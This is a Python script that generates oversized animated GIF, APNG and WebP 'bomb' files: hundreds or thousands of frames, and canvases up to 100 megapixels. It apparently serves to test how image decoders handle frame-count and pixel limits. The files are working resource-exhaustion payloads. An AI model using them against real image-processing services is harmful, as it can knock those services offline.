import struct, zlib, sys, os
out = sys.argv[1] if len(sys.argv) > 1 else '/tmp/bombs'

def lzw(indices, min_code=8):
    clear = 1 << min_code; eoi = clear + 1
    dic = {bytes([i]): i for i in range(clear)}
    nxt = eoi + 1; size = min_code + 1
    bits = 0; nbits = 0; outb = bytearray()
    def emit(code):
        nonlocal bits, nbits
        bits |= code << nbits; nbits += size
        while nbits >= 8:
            outb.append(bits & 0xFF); bits >>= 8; nbits -= 8
    emit(clear)
    w = b''
    for c in indices:
        wc = w + bytes([c])
        if wc in dic: w = wc; continue
        emit(dic[w])
        if nxt < 4096:
            dic[wc] = nxt; nxt += 1
            if nxt > (1 << size) and size < 12: size += 1
        else:
            emit(clear); dic = {bytes([i]): i for i in range(clear)}; nxt = eoi + 1; size = min_code + 1
        w = bytes([c])
    if w: emit(dic[w])
    emit(eoi)
    if nbits: outb.append(bits & 0xFF)
    blocks = bytearray([min_code])
    for i in range(0, len(outb), 255):
        ch = outb[i:i+255]; blocks += bytes([len(ch)]) + ch
    blocks += b'\0'
    return bytes(blocks)

def gif(path, w, h, frames, dispose=1, fw=None, fh=None, pattern=None):
    fw = fw or w; fh = fh or h
    hdr = b'GIF89a' + struct.pack('<HHBBB', w, h, 0xF7, 0, 0)
    pal = bytes(sum(([i, 255 - i, (i * 7) & 255] for i in range(256)), []))
    data = bytearray(hdr + pal)
    data += b'\x21\xFF\x0BNETSCAPE2.0\x03\x01\x00\x00\x00'
    if pattern is None:
        pix = bytes((x // 50 + y // 50) & 255 for y in range(fh) for x in range(fw))
    else:
        pix = pattern
    enc = lzw(pix)
    for k in range(frames):
        data += b'\x21\xF9\x04' + bytes([dispose << 2, 4, 0, 0]) + b'\0'
        x = (k * 7) % max(1, w - fw + 1); y = (k * 13) % max(1, h - fh + 1)
        data += b'\x2C' + struct.pack('<HHHHB', x, y, fw, fh, 0) + enc
    data += b'\x3B'
    open(path, 'wb').write(data)

def chunk(t, b):
    return struct.pack('>I', len(b)) + t + b + struct.pack('>I', zlib.crc32(t + b) & 0xffffffff)

def apng(path, w, h, frames, fw, fh, depth=8, ctype=6):
    bpp = {6: 4, 2: 3}[ctype] * depth // 8
    raw = b''.join(b'\0' + bytes([ (y * 3) & 255 ]) * (fw * bpp) for y in range(fh))
    comp = zlib.compress(raw, 9)
    d = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', w, h, depth, ctype, 0, 0, 0))
    d += chunk(b'acTL', struct.pack('>II', frames, 0))
    seq = 0
    # default image = first frame, full canvas
    rawfull = zlib.compress(b''.join(b'\0' + b'\x80' * (w * bpp) for y in range(h)), 9)
    d += chunk(b'fcTL', struct.pack('>IIIIIHHBB', seq, w, h, 0, 0, 1, 100, 0, 0)); seq += 1
    d += chunk(b'IDAT', rawfull)
    parts = [d]
    for k in range(1, frames):
        x = (k * 7) % (w - fw + 1); y = (k * 13) % (h - fh + 1)
        parts.append(chunk(b'fcTL', struct.pack('>IIIIIHHBB', seq, fw, fh, x, y, 1, 100, 0, 1))); seq += 1
        parts.append(chunk(b'fdAT', struct.pack('>I', seq) + comp)); seq += 1
    parts.append(chunk(b'IEND', b''))
    open(path, 'wb').write(b''.join(parts))

def riff_chunk(t, b):
    pad = b'\0' if len(b) & 1 else b''
    return t + struct.pack('<I', len(b)) + b + pad

def webp_anim(path, frame_webp, w, h, frames):
    # frame_webp: a still lossless/lossy WebP file of w x h; take its VP8/VP8L chunk
    src = open(frame_webp, 'rb').read()
    off = 12; bit = None
    while off < len(src):
        t = src[off:off+4]; n = struct.unpack('<I', src[off+4:off+8])[0]
        if t in (b'VP8 ', b'VP8L'): bit = src[off:off+8+n+(n&1)]
        off += 8 + n + (n & 1)
    vp8x = riff_chunk(b'VP8X', bytes([0x02 | 0x10, 0, 0, 0]) + struct.pack('<I', w - 1)[:3] + struct.pack('<I', h - 1)[:3])
    anim = riff_chunk(b'ANIM', struct.pack('<IH', 0, 0))
    body = b''
    for k in range(frames):
        body += riff_chunk(b'ANMF', struct.pack('<I', 0)[:3] + struct.pack('<I', 0)[:3] + struct.pack('<I', w - 1)[:3] + struct.pack('<I', h - 1)[:3] + struct.pack('<I', 100)[:3] + bytes([0]) + bit)
    payload = b'WEBP' + vp8x + anim + body
    open(path, 'wb').write(b'RIFF' + struct.pack('<I', len(payload)) + payload)

what = sys.argv[2:] or ['gif250', 'gifrestore', 'apng9999', 'apng100mp']
if 'gif250' in what: gif(f'{out}/gif250.gif', 1000, 1000, 250)
if 'gifrestore' in what: gif(f'{out}/gifrestore.gif', 2000, 2000, 249, dispose=3, fw=1, fh=1, pattern=b'\x05')
if 'apng9999' in what: apng(f'{out}/apng9999.png', 316, 316, 9999, 1, 1)
if 'apng100mp' in what: apng(f'{out}/apng100mp.png', 10000, 10000, 2, 10000, 10000)
if 'webp249' in what: webp_anim(f'{out}/webp249.webp', f'{out}/frame2000.webp', 2000, 2000, 249)
